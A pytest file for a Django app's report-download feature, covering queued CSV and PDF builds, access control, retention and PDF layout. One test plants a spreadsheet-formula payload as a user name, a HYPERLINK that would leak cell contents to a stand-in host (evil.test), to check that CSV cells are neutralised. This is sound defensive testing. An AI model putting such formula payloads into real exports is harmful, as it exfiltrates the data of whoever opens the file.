"""Report downloads: asked for on the page, built by the `build_report` task, polled with htmx
until ready, downloadable by the requester (and staff) only, CSV cells that spreadsheets would
run neutralised, and deleted after 30 days."""

import csv
import datetime as dt
import io
import os
from unittest import mock

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from cohorts import tasks
from cohorts.models import Cohort, Enrolment, EnrolmentStatus, ReportExport, ReportStatus
from cohorts.reports.exports import report_export_build, report_exports_delete_old
from cohorts.reports.figures import MEASURE
from cohorts.reports.tables import DETAIL as DETAIL_KEYS
from councils.models import Role
from infuse.celery import app
from tests.cohorts.reports_data import TODAY

HX = {"HTTP_HX_REQUEST": "true"}
# The measures of a Lab in a council, as the CSV names them (learning hours come last).
DETAIL = [str(MEASURE[key].label) for key in DETAIL_KEYS if key != "learning_hours"]


def ask(client, capture, fmt="csv", **filters):
    """Ask for a download as the page does with htmx; the task runs when the request commits."""
    with capture(execute=True):
        response = client.post(reverse("report_export_create"), {"format": fmt, **filters}, **HX)
    assert response.status_code == 200
    return response, ReportExport.objects.latest("pk")


def download(client, export) -> bytes:
    response = client.get(reverse("report_export_download", args=[export.pk]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def pdf_text(data: bytes) -> str:
    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_asking_for_a_csv_answers_a_line_that_polls_until_the_file_is_ready(
    client, programme, funder, django_capture_on_commit_callbacks
):
    client.force_login(funder)
    response, export = ask(client, django_capture_on_commit_callbacks, period="fy-2025", lab="data")
    html = response.content.decode()
    # The answer was rendered before the build: it says so and polls every 2 seconds.
    assert 'hx-trigger="every 2s"' in html and "Waiting to start" in html
    assert "HX-Request" in response["Vary"]
    export.refresh_from_db()
    assert export.status == ReportStatus.READY and export.requested_by == funder
    assert export.filters == {"period": "fy-2025", "lab": "data"}
    poll = client.get(reverse("report_export", args=[export.pk]), **HX)
    html = poll.content.decode()
    assert "hx-trigger" not in html  # ready: the answer no longer polls
    assert reverse("report_export_download", args=[export.pk]) in html
    assert "Download the CSV" in html
    rows = csv_rows(download(client, export))
    assert rows[0] == ["Period", "Lab", "Council", "Theme", "Measure", "Value", "Note"]
    newport = {row[4]: row[5] or row[6] for row in rows if row[1:3] == ["Data Lab", "Newport"]}
    assert [newport[m] for m in DETAIL] == "3 [m] 0 <5 <5 <5 3 <5 [c] [c] [c] [c]".split()
    assert not any(row[1] == "Adaption Lab" for row in rows)  # filtered to the Data Lab


def test_the_funders_csv_holds_the_suppressed_figures_of_their_page(
    client, programme, funder, django_capture_on_commit_callbacks
):
    client.force_login(funder)
    _response, export = ask(client, django_capture_on_commit_callbacks, period="fy-2025")
    rows = csv_rows(download(client, export))
    year = [row for row in rows[1:] if row[0] == "Financial year 2025–26"]
    figures = {
        tuple(row[1:3]) + (row[4],): row[5] or row[6] for row in year if row[3] == "Both themes"
    }

    def first4(lab, council):
        return [
            figures[(lab, council, m)]
            for m in ("Enrolled", "Started", "Active (last 14 days)", "Completed")
        ]

    assert first4("Data Lab", "Newport") == ["3", "[m]", "0", "<5"]
    assert first4("Data Lab", "Cardiff") == ["12", "[m]", "0", "[c]"]
    assert first4("Data Lab", "Bridgend") == ["28", "[m]", "6", "15"]
    other = "Other councils (Bridgend, Cardiff, Newport)"
    assert first4("Data Lab", other)[:2] == ["n/a", "39"]
    assert first4("All labs", "All councils")[:2] == ["77", "73"]
    # One tidy table: the period in every row (the year, or a quarter of it).
    assert {row[0] for row in rows[1:]} >= {"Financial year 2025–26", "Q1 2025–26"}
    # (The outcome and equality figures are of the programme to date, whatever the period.)
    assert all(
        row[0] in ("Financial year 2025–26", "Programme to date") or row[0].startswith("Q")
        for row in rows[1:]
    )


def test_a_pdf_goes_to_the_pdf_queue_and_holds_the_figures(
    client, programme, funder, django_capture_on_commit_callbacks
):
    client.force_login(funder)
    with mock.patch.object(
        tasks.build_report, "apply_async", wraps=tasks.build_report.apply_async
    ) as sent:
        _response, export = ask(client, django_capture_on_commit_callbacks, "pdf", period="fy-2025")
    assert sent.call_args.kwargs.get("queue") == "pdf"
    export.refresh_from_db()
    assert export.status == ReportStatus.READY
    data = download(client, export)
    assert data.startswith(b"%PDF")
    text = pdf_text(data)
    for expected in ["Programme progress report", "Financial year 2025–26", "77", "<5", "[c]"]:
        assert expected in text
    assert "Definitions and disclosure control" in text
    assert "Cardiff done" not in text


def test_a_csv_goes_to_the_default_queue(
    client, programme, funder, django_capture_on_commit_callbacks
):
    client.force_login(funder)
    with mock.patch.object(
        tasks.build_report, "apply_async", wraps=tasks.build_report.apply_async
    ) as sent:
        ask(client, django_capture_on_commit_callbacks, "csv")
    assert "queue" not in sent.call_args.kwargs


def test_without_javascript_asking_leads_to_the_downloads_own_page(
    client, programme, funder, django_capture_on_commit_callbacks
):
    client.force_login(funder)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("report_export_create"), {"format": "pdf"})
    export = ReportExport.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("report_export", args=[export.pk])
    page = client.get(response["Location"])
    assert page.status_code == 200 and "Your report download" in page.content.decode()
    assert "Download the PDF" in page.content.decode()


def test_an_unknown_format_or_foreign_filter_is_refused(client, programme, lead):
    client.force_login(lead)
    assert client.post(reverse("report_export_create"), {"format": "xls"}).status_code == 404
    response = client.post(reverse("report_export_create"), {"format": "csv", "council": "newport"})
    assert response.status_code == 404
    assert not ReportExport.objects.exists()


@pytest.fixture
def funders_export(programme, funder, django_capture_on_commit_callbacks, client):
    client.force_login(funder)
    _response, export = ask(client, django_capture_on_commit_callbacks, period="fy-2025")
    client.logout()
    return export


def test_only_the_requester_and_staff_may_see_or_download_an_export(
    client, funders_export, make_user, lead, staff
):
    other_funder = make_user("other.funder@infuse.test", Role.FUNDER)
    for outsider in (other_funder, lead):
        client.force_login(outsider)
        assert client.get(reverse("report_export", args=[funders_export.pk])).status_code == 404
        url = reverse("report_export_download", args=[funders_export.pk])
        assert client.get(url).status_code == 404
    client.force_login(staff)
    assert (
        client.get(reverse("report_export_download", args=[funders_export.pk])).status_code == 200
    )


def test_a_download_that_is_not_ready_is_not_found(client, programme, funder):
    export = ReportExport.objects.create(requested_by=funder, format="csv", filters={})
    client.force_login(funder)
    assert client.get(reverse("report_export_download", args=[export.pk])).status_code == 404
    poll = client.get(reverse("report_export", args=[export.pk]), **HX).content.decode()
    assert 'hx-trigger="every 2s"' in poll


def test_building_twice_builds_once(programme, funder):
    export = ReportExport.objects.create(requested_by=funder, format="csv", filters={})
    first = report_export_build(export_id=export.pk)
    again = report_export_build(export_id=export.pk)
    assert first.status == again.status == ReportStatus.READY
    assert again.file.name == first.file.name and again.finished_at == first.finished_at


def test_a_build_left_running_by_a_dead_worker_is_taken_over_later(programme, funder):
    long_ago = timezone.now() - dt.timedelta(hours=1)
    export = ReportExport.objects.create(
        requested_by=funder,
        format="csv",
        filters={},
        status=ReportStatus.RUNNING,
        created_at=long_ago,
    )
    assert report_export_build(export_id=export.pk).status == ReportStatus.READY
    fresh = ReportExport.objects.create(
        requested_by=funder, format="csv", filters={}, status=ReportStatus.RUNNING
    )
    assert report_export_build(export_id=fresh.pk).status == ReportStatus.RUNNING


def test_filters_no_longer_available_fail_the_build_with_a_reason(programme, lead, newport):
    export = ReportExport.objects.create(
        requested_by=lead, format="csv", filters={"council": "cardiff"}
    )
    lead.council = newport  # the lead moved council after asking
    lead.save()
    built = report_export_build(export_id=export.pk)
    assert built.status == ReportStatus.FAILED and "no longer available" in built.error
    assert not built.file


def test_the_lead_csv_holds_figures_only_and_nothing_a_spreadsheet_would_run(
    client, programme, lead, make_user, cardiff, django_capture_on_commit_callbacks
):
    """Names and cohort titles are in the lead's workbook and PDF (as text: see
    test_reports_workbook.py); the tidy CSV is figures, every cell still neutralised."""
    officer = make_user(
        "officer@cardiff.test",
        council=cardiff,
        name='=HYPERLINK("http://evil.test/?leak="&A1,"Click me")',
    )
    cohort = programme["cohorts"]["D1"]
    Cohort.objects.filter(pk=cohort.pk).update(title="+SUM(1,2) cohort")
    Enrolment.objects.create(
        cohort=cohort,
        user=officer,
        status=EnrolmentStatus.ACTIVE,
        enrolled_at=timezone.make_aware(dt.datetime(2025, 4, 15, 10)),
    )
    client.force_login(lead)
    _response, export = ask(client, django_capture_on_commit_callbacks)
    data = download(client, export)
    assert b"officer@cardiff.test" not in data and b"SUM(1,2)" not in data
    rows = csv_rows(data)
    assert {row[2] for row in rows[1:]} == {"Cardiff"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_staff_csv_is_exact(client, programme, staff, django_capture_on_commit_callbacks):
    client.force_login(staff)
    _response, export = ask(client, django_capture_on_commit_callbacks, period="fy-2025")
    rows = csv_rows(download(client, export))
    year = [row for row in rows[1:] if row[0] == "Financial year 2025–26"]
    figures = {tuple(row[1:3]) + (row[4],): row[5] or row[6] for row in year}
    assert figures[("Data Lab", "Newport", "Completed")] == "2"
    assert figures[("Data Lab", "Newport", "Withdrawn")] == "1"
    # Exact activity figures; the outcome and equality tables ("Programme to date") follow
    # the disclosure policy for every reader, staff included.
    activity = [row for row in rows[1:] if row[0] != "Programme to date"]
    assert activity and not any(row[6] in ("<5", "[c]", "[m]") for row in activity)


def test_exports_older_than_thirty_days_are_deleted_with_their_files(programme, funder, settings):
    now = timezone.now()
    old = ReportExport.objects.create(
        requested_by=funder,
        format="csv",
        filters={},
        status=ReportStatus.READY,
        created_at=now - dt.timedelta(days=31),
        file=ContentFile(b"a,b", name="reports/old.csv"),
    )
    recent = ReportExport.objects.create(
        requested_by=funder,
        format="csv",
        filters={},
        status=ReportStatus.READY,
        created_at=now - dt.timedelta(days=29),
        file=ContentFile(b"a,b", name="reports/recent.csv"),
    )
    old_path = old.file.path
    assert tasks.delete_old_report_exports.apply().get() == 1
    assert list(ReportExport.objects.all()) == [recent]
    assert not (settings.MEDIA_ROOT / "reports" / "old.csv").exists()
    assert not os.path.exists(old_path)
    assert report_exports_delete_old() == 0


def test_beat_deletes_old_exports_every_night():
    entry = app.conf.beat_schedule["delete-old-report-exports"]
    assert entry["task"] == "cohorts.tasks.delete_old_report_exports"


def test_the_page_lists_my_recent_downloads_only(client, funders_export, make_user, funder):
    other = make_user("other.funder@infuse.test", Role.FUNDER)
    client.force_login(other)
    assert (
        f"report-export-{funders_export.pk}" not in client.get(reverse("reports")).content.decode()
    )
    client.force_login(funder)
    html = client.get(reverse("reports")).content.decode()
    assert f"report-export-{funders_export.pk}" in html and "Download the CSV" in html


def test_the_sweeper_builds_downloads_whose_task_was_lost_on_their_own_queue(programme, funder):
    """A Redis that lost its data loses the build tasks: downloads left waiting are found and
    built again, PDFs on the "pdf" queue; recent, finished or failed ones are left alone."""
    long_ago = timezone.now() - dt.timedelta(minutes=20)
    lost_csv = ReportExport.objects.create(
        requested_by=funder, format="csv", filters={}, created_at=long_ago
    )
    lost_pdf = ReportExport.objects.create(
        requested_by=funder, format="pdf", filters={}, created_at=long_ago
    )
    ReportExport.objects.create(requested_by=funder, format="csv", filters={})  # just asked
    ReportExport.objects.create(
        requested_by=funder, format="csv", filters={}, created_at=long_ago,
        status=ReportStatus.FAILED,
    )  # fmt: skip
    with mock.patch.object(tasks.build_report, "apply_async") as sent:
        assert tasks.sweep_report_exports() == 2
    queued = {call.args[0][0]: call.kwargs for call in sent.call_args_list}
    assert queued == {lost_csv.pk: {}, lost_pdf.pk: {"queue": "pdf"}}


def test_beat_sweeps_lost_report_downloads():
    entries = {e["task"]: e for e in app.conf.beat_schedule.values()}
    assert "cohorts.tasks.sweep_report_exports" in entries


@pytest.mark.parametrize("role", [Role.LEAD, Role.STAFF])
def test_the_tidy_csv_is_counted_without_lines_about_people_or_cohorts(
    programme, lead, staff, role, monkeypatch
):
    """The CSV has figures only: a lead's people and staff's cohorts are not counted for it
    (a lead's 20,000-person CSV took 2 to 3 seconds, most of it those lines)."""
    from cohorts.reports import build

    def refused(*args, **kwargs):
        raise AssertionError("lines counted for the CSV")

    monkeypatch.setattr(build, "_people_rows", refused)
    monkeypatch.setattr(build, "_cohort_rows", refused)
    user = lead if role == Role.LEAD else staff
    export = ReportExport.objects.create(requested_by=user, format="csv", filters={})
    built = report_export_build(export_id=export.pk)
    assert built.status == ReportStatus.READY, built.error
    assert len(csv_rows(built.file.read())) > 10
    pdf = ReportExport.objects.create(requested_by=user, format="pdf", filters={})
    assert report_export_build(export_id=pdf.pk).status == ReportStatus.FAILED  # PDF has lines


def test_a_tall_chart_stays_within_its_page_in_the_pdf(programme, staff, monkeypatch):
    """A chart of every council by Lab (22 councils, three Labs) is taller than a page: the PDF
    shrinks it to fit under its heading rather than letting it run off the page."""
    from django.utils.safestring import mark_safe
    from weasyprint import HTML

    from cohorts.reports import exports, report_filters, report_for, report_options

    tall = mark_safe(
        '<svg xmlns="http://www.w3.org/2000/svg" class="infuse-chart" id="tall-chart" '
        'viewBox="0 0 600 4000"><rect width="600" height="4000" fill="#00625e"/></svg>'
    )
    monkeypatch.setattr(exports, "completion_chart", lambda report, **kwargs: tall)
    options = report_options(user=staff, today=TODAY)
    report = report_for(
        user=staff, filters=report_filters(options=options, data={}), options=options
    )
    document = HTML(string=exports.report_html(report)).render()
    found = []
    for page in document.pages:
        area = page._page_box  # the page's content area: inside its margins
        bottom = area.content_box_y() + area.height
        for box in area.descendants():
            element = getattr(box, "element", None)
            if element is not None and element.get("id") == "tall-chart":
                found.append((box.position_y + box.height, bottom))
    assert found
    for end, bottom in found:
        assert end <= bottom


@pytest.mark.parametrize("language", ["en", "cy"])
@pytest.mark.parametrize("role", [Role.STAFF, Role.LEAD])
def test_the_pdf_tables_have_fixed_columns_that_hold_their_text_within_the_page(
    programme, staff, lead, role, language
):
    """Every data table in the PDF is laid out with fixed columns (WeasyPrint's automatic layout
    measured every cell twice: the cost that grew with the cohorts and people tables, issue 24),
    and no cell runs off the page nor any text out of its cell, in either language."""
    from django.utils import translation
    from weasyprint import HTML
    from weasyprint.formatting_structure.boxes import TableBox, TableCellBox, TextBox

    from cohorts.reports import exports, report_filters, report_for, report_options
    from councils.pdf import BASE_URL, StaticOnlyFetcher

    user = staff if role == Role.STAFF else lead
    with translation.override(language):
        options = report_options(user=user, today=TODAY)
        report = report_for(
            user=user, filters=report_filters(options=options, data={}), options=options
        )
        html = HTML(
            string=exports.report_html(report), base_url=BASE_URL, url_fetcher=StaticOnlyFetcher()
        )
        document = html.render()  # with the PDF's own fonts: they set the text's widths
    tables = cells = 0
    for page in document.pages:
        area = page._page_box
        right = area.content_box_x() + area.width + 0.01
        for box in area.descendants():
            if isinstance(box, TableBox) and "data" in box.element.get("class", "").split():
                assert box.style["table_layout"] == "fixed", box.element.get("class")
                tables += 1
                for cell in box.descendants():
                    if not isinstance(cell, TableCellBox):
                        continue
                    cells += 1
                    edge = cell.position_x + cell.border_width()
                    assert edge <= right, "".join(cell.element.itertext())
                    for text in cell.descendants():
                        if isinstance(text, TextBox):
                            assert text.position_x + text.width <= edge + 0.01, text.text
    assert tables and cells
